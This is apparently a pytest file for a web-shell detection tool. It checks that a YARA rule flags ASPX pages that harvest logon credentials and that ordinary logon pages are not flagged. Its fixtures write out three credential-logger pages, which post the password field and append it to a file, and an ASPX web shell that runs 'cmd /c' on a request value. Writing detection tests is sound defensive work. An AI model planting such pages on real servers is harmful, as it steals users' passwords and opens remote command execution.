"""Rules from the twenty-sixth unseen collection: backdoors hidden inside legitimate pages and modules (issue
14, helper X26).

The own rules found 13 of the 14 files of the collection on first sight (BENCHMARKS.md, "Unseen shells,
twenty-sixth collection: backdoors inside legitimate pages"). The one missed is the credential logger of a
leaked intrusion kit meant for the OWA logon flow: browser script reads the logon form's password field and
posts it with ``XMLHttpRequest`` to a server page, whose code appends the posted values to a file. It runs
no command and writes no file the request names, so the behaviour analysis has nothing to call a shell; the
rule ``EXT_WEBSHELL_Logon_Form_Credential_Logger`` in ``data/rules/credential_harvesters.yar`` wants both
halves in one server page. The pages below reproduce the shape (C# and VB, ``File.AppendAllText`` and a
``StreamWriter``, the field taken by id or by name) and the ordinary logon pages closest to it. All pages
were written for these tests: nothing is compiled or run, paths and field names are placeholders, and none
is a copy of a real logger.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, behaviour_sinks, rule_tables

_RULE = "EXT_WEBSHELL_Logon_Form_Credential_Logger"

_SCRIPT_BY_ID = (
    "<script>\nfunction sendIt() {\n"
    '  var n = document.getElementById("username");\n'
    '  var p = document.getElementById("password");\n'
    '  var s = "a=" + encodeURIComponent(n.value) + "&b=" + encodeURIComponent(p.value);\n'
    "  var h = new XMLHttpRequest();\n"
    '  h.open("POST", "/auth/placeholder.aspx", true);\n'
    '  h.setRequestHeader("Content-type", "application/x-www-form-urlencoded");\n'
    "  h.onloadend = function () { document.forms[0].submit(); };\n"
    "  h.send(s);\n}\n</script>\n"
)

CREDENTIAL_LOGGERS: list[Page] = [
    (
        "cs-append-two-request-values",
        ".aspx",
        '<%@ Page Language="C#" AutoEventWireup="false" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  if (!string.IsNullOrEmpty(Request["a"]) && !string.IsNullOrEmpty(Request["b"]))\n  {\n'
        + '    try { System.IO.File.AppendAllText(@"C:\\placeholder\\probe.txt", DateTime.Now.ToString() + "|" + '
        + 'Request.UserHostAddress + "|" + Request["a"] + "|" + Request["b"] + Environment.NewLine); } catch {}\n'
        + "  }\n%>\n",
    ),
    (
        "vb-streamwriter-form-values",
        ".aspx",
        '<%@ Page Language="VB" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  If Request.Form("a") <> "" Then\n'
        + '    Dim w As New System.IO.StreamWriter("C:\\placeholder\\probe.log", True)\n'
        + '    w.WriteLine(Request.Form("a") & ":" & Request.Form("b"))\n'
        + "    w.Close()\n  End If\n%>\n",
    ),
    (
        "cs-field-by-name-write-all-text",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script>\nfunction go() {\n'
        '  var p = document.getElementsByName("password")[0];\n'
        '  var x = new XMLHttpRequest(); x.open("POST", "placeholder.aspx");\n'
        '  var body = "k=" + encodeURIComponent(p.value); x.send(body);\n}\n</script>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  if (Request.Form["k"] != null) System.IO.File.WriteAllText(Server.MapPath("~/App_Data/probe.dat"), '
        'Request.Form["u"] + "\\t" + Request.Form["k"]);\n}\n</script>\n',
    ),
]

LOGON_PAGES_ORDINARY: list[Page] = [
    (
        "logon-show-password-toggle",
        ".aspx",
        '<%@ Page Language="C#" Inherits="App.Logon" %>\n<script>\nfunction showPasswordClick() {\n'
        '  var p = document.getElementById("password"), t = document.getElementById("passwordText");\n'
        '  t.value = p.value; p.style.display = "none"; t.style.display = "inline";\n}\n</script>\n'
        '<form action="/auth/logon.aspx" method="POST"><input id="username" name="username"/>'
        '<input id="password" name="password" type="password"/></form>\n<% Response.Write(Title); %>\n',
    ),
    (
        "ajax-logon-to-own-handler",
        ".aspx",
        '<%@ Page Language="C#" MasterPageFile="~/Site.Master" Inherits="App.SignIn" %>\n'
        + _SCRIPT_BY_ID.replace("/auth/placeholder.aspx", "/api/signin.ashx")
        + '<asp:Content runat="server" ContentPlaceHolderID="Main"><% if (User.Identity.IsAuthenticated) '
        'Response.Redirect("~/"); %></asp:Content>\n',
    ),
    (
        "ajax-logon-audit-log-one-value",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  if (Request["a"] != null)\n'
        + '    System.IO.File.AppendAllText(Server.MapPath("~/App_Data/signin.log"), DateTime.UtcNow.ToString("o") '
        + '+ " sign-in attempt for " + Request["a"] + " from " + Request.UserHostAddress + Environment.NewLine);\n%>\n',
    ),
    (
        "contact-form-saved-to-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script>\nfunction post() {\n'
        '  var m = document.getElementById("message");\n'
        '  var h = new XMLHttpRequest(); h.open("POST", "contact.aspx");\n'
        '  var d = "m=" + encodeURIComponent(m.value); h.send(d);\n}\n</script>\n'
        '<% if (Request.Form["m"] != null) System.IO.File.AppendAllText(Server.MapPath("~/App_Data/contact.txt"), '
        'Request.Form["n"] + ": " + Request.Form["m"] + "\\n"); %>\n',
    ),
]

CASES: list[RuleCase] = [
    (_RULE, CREDENTIAL_LOGGERS, LOGON_PAGES_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)


# The two backdoored Exchange ``ExpiredPassword.aspx`` pages of the collection were named by YARA only: the
# behaviour analysis does not follow a ``ProcessStartInfo`` taken into a local (``i = p.StartInfo``) and then
# filled from the request before ``p.Start()``. Asked of helper A6 (/work/notes/to_a6.md, X26); strict xfail
# until the engine follows the alias, then the mark comes off.
_ALIAS_START_INFO = (
    '<%@ Page Language="C#" %>\n<%\n'
    "System.Diagnostics.Process p = new System.Diagnostics.Process();\n"
    "System.Diagnostics.ProcessStartInfo i = p.StartInfo;\n"
    'i.FileName = "cmd";\n'
    'i.Arguments = "/c " + Request.Form["b"];\n'
    "i.UseShellExecute = false;\n"
    "p.Start();\n%>\n"
)
_ALIAS_START_INFO_NO_REQUEST = _ALIAS_START_INFO.replace('Request.Form["b"]', 'Server.MapPath("~/App_Data")')


@pytest.mark.xfail(strict=True, reason="behaviour: a StartInfo alias is not followed (asked of A6, X26)")
def test_start_info_taken_into_a_local_reaches_process(tmp_path: Path, params: content.ContentParams) -> None:
    assert "process" in behaviour_sinks(tmp_path, "alias.aspx", _ALIAS_START_INFO, params)


def test_start_info_local_without_request_value_has_no_process_sink(
    tmp_path: Path, params: content.ContentParams
) -> None:
    assert "process" not in behaviour_sinks(
        tmp_path, "alias-fixed.aspx", _ALIAS_START_INFO_NO_REQUEST, params
    )
